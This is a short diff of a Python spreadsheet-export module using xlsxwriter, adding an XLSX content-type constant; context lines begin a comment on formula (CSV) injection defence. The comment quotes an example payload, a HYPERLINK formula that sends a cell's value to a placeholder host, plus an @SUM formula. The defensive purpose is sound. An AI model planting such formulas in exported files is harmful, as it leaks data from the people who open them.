@@ -15,6 +15,7 @@ from typing import IO
 import xlsxwriter
 
 MAX_WIDTH = 40
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 # Formula injection (OWASP "CSV injection"): a name typed as =HYPERLINK("http://x/?"&A1,"点此") or
 # @SUM(...) is data to us but a formula to Excel, WPS and LibreOffice opening a CSV (and in an xlsx
